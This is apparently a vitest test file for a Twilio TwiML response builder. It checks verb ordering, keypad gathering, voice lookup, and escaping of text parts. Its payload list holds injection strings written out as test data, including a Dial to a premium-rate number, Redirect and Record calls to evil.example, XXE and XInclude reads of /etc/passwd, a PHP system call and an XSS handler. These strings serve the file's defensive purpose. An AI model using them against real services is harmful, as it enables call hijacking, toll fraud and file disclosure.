import { describe, expect, it } from 'vitest';
import { parseTwiml, type Verb } from './testing/stand-in/twiml/parse';
import { answerOf, type Script } from './twiml';

const markUrl = 'https://ghanti.example/webhooks/twilio/mark/v1.k1.a.1.1.mac#rc=5&rp=all';
const audio = (url: string) => ({ type: 'audio', url, seconds: 3 }) as const;
const say = (text: string, voice = 'np_rija') => ({ type: 'say', text, voice }) as const;
const voices = new Map([['np_rija', { voice: 'Google.hi-IN-Standard-A', language: 'hi-IN' }]]);

const verbsOf = (script: Partial<Script>): readonly Verb[] =>
  parseTwiml(answerOf({ parts: [], keypad: null, markUrl, ...script }, voices).body);

describe('what is played to who answered', () => {
  it('is all parts in their order, then the request that proves them heard', () => {
    const verbs = verbsOf({
      parts: [audio('https://a.example/1.wav?sig=a&b=2'), say('नमस्ते'), audio('https://a.example/2')],
    });
    expect(verbs.map(({ name, text }) => [name, text])).toEqual([
      ['Play', 'https://a.example/1.wav?sig=a&b=2'],
      ['Say', 'नमस्ते'],
      ['Play', 'https://a.example/2'],
      ['Redirect', markUrl],
    ]);
    expect(verbs.at(-1)?.attributes).toEqual({ method: 'POST' });
  });

  it('can be answered by keys while it plays; who presses none comes to the same end', () => {
    const [gather, redirect] = verbsOf({
      parts: [audio('https://a.example/1')],
      keypad: { digits: 4, timeoutSeconds: 7 },
    });
    expect(gather).toMatchObject({
      name: 'Gather',
      attributes: { input: 'dtmf', numDigits: '4', timeout: '7', finishOnKey: '#', action: markUrl, method: 'POST' },
      children: [{ name: 'Play' }],
    });
    expect(redirect).toMatchObject({ name: 'Redirect', text: markUrl });
  });

  it('takes # for an answer where one key is the whole of it', () => {
    const [gather] = verbsOf({ parts: [audio('https://a.example/1')], keypad: { digits: 1, timeoutSeconds: 5 } });
    expect(gather?.attributes).toMatchObject({ numDigits: '1', finishOnKey: '' });
  });

  it('is said by a voice of the table, or by the carrier’s own', () => {
    expect(verbsOf({ parts: [say('x')] })[0]?.attributes).toEqual({
      voice: 'Google.hi-IN-Standard-A',
      language: 'hi-IN',
    });
    expect(verbsOf({ parts: [say('x', '"><Hangup/><Say voice="')] })[0]?.attributes).toEqual({});
  });
});

/** Texts that would be instructions, were they ever taken for a part of the document (S30). */
const payloads = [
  '<Hangup/>',
  '</Say><Dial>+19005551234</Dial><Say>',
  '</Say></Response><!--',
  '<![CDATA[<Dial>+1900</Dial>]]>',
  ']]>',
  '<!-- x -->',
  '-->',
  '<?xml version="1.0"?>',
  '<?php system("id") ?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '&lt;Hangup/&gt;',
  '&amp;lt;',
  '&#60;Hangup/&#62;',
  '&#x3c;Hangup/&#x3e;',
  '&unknown;',
  '&',
  '&;',
  '&#0;',
  '&#xD800;',
  '"',
  "'",
  "' onload=alert(1) '",
  '" voice="alice',
  '<Say voice="alice">x</Say>',
  '<Redirect>https://evil.example</Redirect>',
  '<Play>https://evil.example/a.wav</Play>',
  '<Record action="https://evil.example"/>',
  '<Gather action="https://evil.example"/>',
  '<Sms to="+1900">x</Sms>',
  '<Pause length="9999"/>',
  '<say-as interpret-as="digits">1</say-as>',
  '<break time="9999s"/>',
  '<x xmlns="http://evil.example"/>',
  '<xi:include href="file:///etc/passwd"/>',
  '</response>',
  '<Response>',
  '#{7*7}',
  '{{7*7}}',
  '{tags_name}',
  '%3CHangup%2F%3E',
  '\\u003cHangup/\\u003e',
  '＜Hangup／＞',
  'a\tb',
  'a\nb',
  'नमस्ते & <welcome>',
  '😀 < 😁 & 😂',
  '\u202eevil\u202c',
  '\ufeff<Hangup/>',
  '1 < 2 && 3 > 2',
  '>>>>>><<<<<<',
  '\u2028<Hangup/>\u2029',
];

describe('a text that would be an instruction', () => {
  it.each(payloads)('is only said: %j', (payload) => {
    const verbs = verbsOf({ parts: [say(payload)] });
    expect(verbs.map(({ name }) => name)).toEqual(['Say', 'Redirect']);
    expect(verbs[0]?.text).toBe(payload);
    const played = verbsOf({ parts: [audio(`https://a.example/?x=${payload}`)] });
    expect(played.map(({ name }) => name)).toEqual(['Play', 'Redirect']);
  });

  it('are fifty and more', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(50);
  });

  it('loses what no document can hold, and nothing else', () => {
    expect(verbsOf({ parts: [say('a\u0000b\u0008c\u001fd\ufffee\ud800f\udc00g')] })[0]?.text).toBe('abcdefg');
  });
});
